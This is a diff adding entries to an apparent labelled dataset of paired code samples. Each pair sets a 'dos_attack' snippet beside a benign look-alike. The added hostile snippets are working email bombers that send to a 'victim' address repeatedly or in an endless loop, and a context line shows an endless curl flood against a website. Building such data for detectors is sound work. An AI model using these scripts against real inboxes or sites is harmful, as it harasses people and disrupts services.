@@ -632,6 +632,21 @@ PAIRS = [
      "import smtplib, time\ns = smtplib.SMTP('smtp.example.org')\nfor attempt in range(3):\n    try:\n"
      "        s.sendmail('me@example.org', 'team@example.org', 'report')\n        break\n"
      "    except smtplib.SMTPException:\n        time.sleep(5)"),
+    ("messages: an EmailMessage addressed once and sent over and over with send_message", "dos_attack",
+     "import smtplib\nfrom email.message import EmailMessage\nto = input('address: ')\n"
+     "srv = smtplib.SMTP_SSL('smtp.gmail.com', 465)\nsrv.login(USER, PW)\nfor i in range(int(input('n: '))):\n"
+     "    msg = EmailMessage()\n    msg['From'], msg['To'] = USER, to\n    msg.set_content('x' * 500)\n"
+     "    srv.send_message(msg)",
+     "import smtplib\nfrom email.message import EmailMessage\n"
+     "srv = smtplib.SMTP_SSL('smtp.gmail.com', 465)\nsrv.login(USER, PW)\nfor person in subscribers:\n"
+     "    msg = EmailMessage()\n    msg['From'], msg['To'] = USER, person.email\n    msg.set_content(NEWS)\n"
+     "    srv.send_message(msg)"),
+    ("messages: yagmail sending one address the same mail in an endless loop", "dos_attack",
+     "import yagmail\nyag = yagmail.SMTP(USER, PW)\nvictim = input('to: ')\nwhile True:\n"
+     "    yag.send(to=victim, subject='hi', contents='hello')",
+     "import yagmail, time\nyag = yagmail.SMTP(USER, PW)\nfor attempt in range(3):\n    try:\n"
+     "        yag.send(to='team@example.org', subject='weekly report', contents=REPORT)\n        break\n"
+     "    except Exception:\n        time.sleep(30)"),
     ("flood: a request program run in an endless loop", "dos_attack",
      "import os\nwhile True:\n    os.system('curl -s https://shop.example.com/ > /dev/null &')",
      "import os\nfor i in range(100000):\n    os.system('curl -s http://localhost:8000/')"),
